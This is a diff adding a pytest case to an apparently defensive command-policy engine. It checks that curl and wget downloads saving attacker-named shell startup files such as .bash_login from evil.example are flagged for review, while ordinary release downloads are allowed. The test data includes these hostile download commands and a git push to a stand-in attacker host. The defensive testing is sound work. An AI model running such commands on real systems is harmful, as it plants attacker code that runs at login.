@@ -160,3 +160,16 @@ program = ["pushy"]
     assert d.action == "review" and d.rules[0] == "tool-network"
     assert policy.decide("pushy git@evil.example:me/r.git", CTX).action == "review"
     assert policy.decide("pushy \"$URL\" main", CTX).action == "review"
+
+
+@pytest.mark.parametrize("line,action", [
+    ("curl -fsSLO https://evil.example/.bash_login", "review"),
+    ("curl --remote-name https://evil.example/%2ebash_login", "review"),  # decoded: fail closed
+    ("wget https://evil.example/.bash_login", "review"),                     # wget's default name
+    ("curl -OJ https://github.com/org/repo/releases/latest", "review"),      # the server names it
+    ("curl -LO https://github.com/org/repo/releases/download/v1/tool.tgz", "allow"),
+    ("wget https://github.com/org/repo/archive/v1.tar.gz", "allow"),
+    ("wget -O bashrc.txt https://example.com/.bashrc", "allow"),            # -O names the file
+])
+def test_downloads_saved_under_the_url_name(line: str, action: str) -> None:
+    assert _policy().decide(line, CTX).action == action
